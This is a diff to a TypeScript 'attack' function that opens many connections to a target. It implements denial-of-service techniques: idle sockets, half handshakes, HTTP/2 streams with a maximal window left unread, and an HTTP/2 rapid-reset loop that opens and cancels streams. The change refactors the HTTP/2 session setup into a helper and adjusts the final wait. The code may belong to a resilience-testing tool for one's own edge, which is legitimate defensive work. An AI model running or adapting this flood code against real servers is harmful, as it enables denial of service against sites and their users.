@@ -56,6 +56,11 @@ async function attack({ kind, host, port, domain, addresses, connections, second
         resolve();
       });
     });
+  const http2Over = (secure: tls.TLSSocket, settings: http2.Settings = {}) => {
+    const session = http2.connect(`https://${domain}`, { createConnection: () => secure, settings });
+    session.on("error", () => secure.destroy());
+    return session;
+  };
   const act = (socket: Socket) => {
     if (kind === "idle") return void socket.resume();
     if (kind === "half a handshake") {
@@ -91,9 +96,7 @@ async function attack({ kind, host, port, domain, addresses, connections, second
       });
     if (kind === "streams that nobody reads") {
       // As much as a client may take at once: what it takes is in nobody's way but the edge's.
-      const settings = { initialWindowSize: 2 ** 31 - 1 };
-      const session = http2.connect(`https://${domain}`, { createConnection: () => secure, settings });
-      session.on("error", () => socket.destroy());
+      const session = http2Over(secure, { initialWindowSize: 2 ** 31 - 1 });
       session.on("connect", () => {
         for (let count = 0; count < 30; count++) {
           const stream = session.request({ ":path": "/down?mb=100", ":authority": domain });
@@ -104,8 +107,7 @@ async function attack({ kind, host, port, domain, addresses, connections, second
       });
     }
     if (kind === "streams that are reset") {
-      const session = http2.connect(`https://${domain}`, { createConnection: () => secure });
-      session.on("error", () => socket.destroy());
+      const session = http2Over(secure);
       const reset = () => {
         for (let count = 0; count < 20 && !session.closed && !session.destroyed && Date.now() < until; count++) {
           const stream = session.request({ ":path": "/", ":authority": domain });
@@ -120,7 +122,8 @@ async function attack({ kind, host, port, domain, addresses, connections, second
   };
   for (let index = 0; index < connections && Date.now() < until; index += BATCH)
     await Promise.all(Array.from({ length: Math.min(BATCH, connections - index) }, (_, at) => open(index + at)));
-  while (Date.now() < until) await sleep(100);
+  // The last of them may still be under way to being refused.
+  await sleep(Math.max(1_000, until - Date.now()));
   result.open = sockets.size;
   return result;
 }
